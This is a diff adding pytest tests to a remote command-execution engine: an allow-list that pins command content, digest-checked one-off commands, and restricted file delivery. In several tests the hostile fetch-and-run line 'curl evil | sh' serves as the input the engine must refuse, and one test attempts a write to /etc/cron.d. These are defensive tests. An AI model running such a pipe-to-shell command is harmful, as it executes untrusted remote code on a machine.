@@ -141,6 +141,15 @@ def test_every_reboot_fires_on_a_new_boot_id(engine):
     assert engine.invocation(inv["invoke_id"])["status"] == "Running"
 
 
+def test_next_reboot_only_fires_on_the_next_boot_and_never_again(engine):
+    inv = engine.invoke(command(), [REMOTE], {}, "NextRebootOnly", None, None, AUDIT, now=T0)
+    delivery.poll(engine, REMOTE, "boot-a", now=T0 + 1)  # the baseline
+    assert len(delivery.poll(engine, REMOTE, "boot-b", now=T0 + 100)["tasks"]) == 1
+    for n, boot in enumerate(("boot-c", "boot-d")):
+        assert delivery.poll(engine, REMOTE, boot, now=T0 + 200 + n)["tasks"] == []
+    assert len(records(engine.invocation(inv["invoke_id"]), REMOTE)) == 1
+
+
 def test_allow_list(tmp_path):
     db = Database(tmp_path / "a.db")
     e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate",)))
@@ -161,3 +170,58 @@ def test_invocations_are_audited_as_events(engine):
     ev = engine.events.list(LOCAL, types=["Command.Invoked"])
     assert len(ev) == 1 and ev[0]["details"]["labels"]["invoke_id"] == inv["invoke_id"]
     assert ev[0]["details"]["labels"]["content_sha256"] == inv["audit"]["content_sha256"]
+
+
+def test_allow_list_pins_the_content_of_a_bare_name(tmp_path):
+    db = Database(tmp_path / "a.db")
+    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate",)))
+    try:
+        e.save_command("c-1", command(name="rotate", content="logrotate -f /etc/logrotate.conf"), T0)
+        e.save_command("c-1", command(name="rotate", content="logrotate -f /etc/logrotate.conf"), T0)  # unchanged
+        for cid in ("c-1", "c-2"):  # changing it, or a second command of that name, is refused
+            with pytest.raises(CommandError) as err:
+                e.save_command(cid, command(name="rotate", content="curl evil | sh"), T0)
+            assert (err.value.status, err.value.field) == (403, "content")
+        e.repo.delete_command("c-1")
+        with pytest.raises(CommandError):  # deleting does not unpin the name
+            e.save_command("c-3", command(name="rotate", content="curl evil | sh"), T0)
+        e.save_command("c-4", command(name="other", content="anything"), T0)  # not allow-listed: saved, never run
+    finally:
+        e.close()
+        db.close()
+
+
+def test_allow_list_one_off_commands_need_their_digest(tmp_path):
+    import hashlib
+
+    body = "echo one-off"
+    digest = hashlib.sha256(body.encode()).hexdigest()
+    db = Database(tmp_path / "a.db")
+    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate", f"echo@{digest}")))
+    try:
+        with pytest.raises(CommandError) as err:  # a bare name is no licence for one-off content
+            e.invoke(command(name="rotate", content="curl evil | sh"), [LOCAL], {}, "Once", None, None, AUDIT,
+                     adhoc=True)
+        assert err.value.status == 403
+        e.invoke(command(name="echo", content=body), [LOCAL], {}, "Once", None, None, AUDIT, adhoc=True)
+        e.drain()
+    finally:
+        e.close()
+        db.close()
+
+
+def test_allow_list_covers_sent_files(tmp_path):
+    db = Database(tmp_path / "a.db")
+    e = Commands(db, EventLog(db), Settings(local_id=LOCAL, allow=("rotate", f"file:{tmp_path}/ok.conf")))
+    spec = {"file_name": "x", "content_b64": "eA==", "target_dir": "/etc/cron.d", "mode": "0644", "owner": "",
+            "group": "", "overwrite": False, "timeout": 60}
+    try:
+        with pytest.raises(CommandError) as err:
+            e.send_file(spec, [LOCAL], AUDIT)
+        assert (err.value.status, err.value.field) == (403, "target_dir")
+        e.send_file({**spec, "file_name": "ok.conf", "target_dir": str(tmp_path)}, [LOCAL], AUDIT)
+        e.drain()
+        assert (tmp_path / "ok.conf").read_bytes() == b"x"
+    finally:
+        e.close()
+        db.close()
